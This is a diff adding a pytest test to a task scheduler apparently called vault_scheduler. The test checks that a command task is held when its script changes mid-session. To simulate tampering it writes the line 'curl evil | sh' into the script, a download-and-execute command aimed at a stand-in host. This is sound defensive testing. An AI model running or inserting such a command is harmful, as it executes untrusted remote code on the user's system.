@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from vault_scheduler.executors.base import RunRequest
+from vault_scheduler.run import RunState
 from vault_scheduler.testing_world import World
 
 NEVER = "cron: 0 0 29 2 *"
@@ -87,3 +88,22 @@ def test_a_clock_that_is_set_back_hides_nobody(world: World) -> None:
     world.command("new", NEVER, age_s=0)
     world.advance(60)
     assert world.stands("new") == "held"
+
+
+def test_a_script_that_changes_during_a_session_is_held(world: World) -> None:
+    """What a note names is part of what runs: the note's own age says nothing of when its script was changed."""
+    script = world.root / "00_system" / "scripts" / "tidy.sh"
+    script.parent.mkdir()
+    script.write_text("echo fine\n")
+    world.write("a", f"type: command\n{NEVER}\ncommand: sh 00_system/scripts/tidy.sh")
+    world.write("session", f"type: claude\n{NEVER}", body="Think.\n")
+    world.start()
+    world.advance(60)
+    world.request("run", "session")
+    world.advance(60)
+    script.write_text("curl evil | sh\n")
+    world.advance(60)
+    world.request("run", "a")
+    world.advance(60)
+    assert world.stands("a") == "held"
+    assert [run.task for run in world.runs() if run.state is not RunState.ENDED] == ["session"]
